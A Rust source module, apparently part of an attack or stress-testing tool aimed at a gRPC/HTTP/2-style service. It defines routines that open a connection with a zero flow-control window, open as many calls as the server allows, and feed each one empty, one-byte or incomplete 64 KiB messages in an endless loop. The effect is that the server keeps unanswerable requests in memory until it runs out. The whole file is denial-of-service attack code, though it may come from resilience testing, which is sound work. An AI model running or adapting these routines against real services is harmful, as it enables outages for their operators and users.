//! Requests that stay in memory because the service cannot respond to them, or not yet.

use std::io;

use super::calls::CALLS;
use crate::attacker::Attacker;
use crate::link::{Link, Reading};
use crate::messages::EXAMPLE;

/// An empty message: only its prefix.
const EMPTY: &[u8] = &[0; 5];

/// Messages whose responses have no window, each in a frame of its own.
pub(super) fn small_frames(attacker: Attacker) -> io::Result<()> {
    fill(attacker, EMPTY, EMPTY)
}

/// Messages whose responses have no window, in frames of one byte.
pub(super) fn tiny_frames(attacker: Attacker) -> io::Result<()> {
    fill(attacker, EMPTY, &EMPTY[..1])
}

/// Messages of 64 KiB, of which the last byte is missing.
pub(super) fn half_messages(attacker: Attacker) -> io::Result<()> {
    let mut message = vec![0, 0, 1, 0, 0];
    message.resize(16 * 1024, b'x');
    fill(attacker, &message[..5], &[b'x'; 1023])
}

/// Opens calls, sends `first` on each, and then `more` until their windows are used up.
fn fill(attacker: Attacker, first: &[u8], more: &[u8]) -> io::Result<()> {
    let mut link = Link::open_with_window(attacker.target, Reading::Fast, 0)?;
    // Until the service has announced its windows.
    link.rest()?;
    loop {
        let mut streams = Vec::new();
        while link.calls() < CALLS {
            let stream = link.call(EXAMPLE, &[])?;
            link.data(stream, first)?;
            streams.push(stream);
        }
        for stream in streams {
            while link.data(stream, more)? {}
        }
        link.rest()?;
    }
}
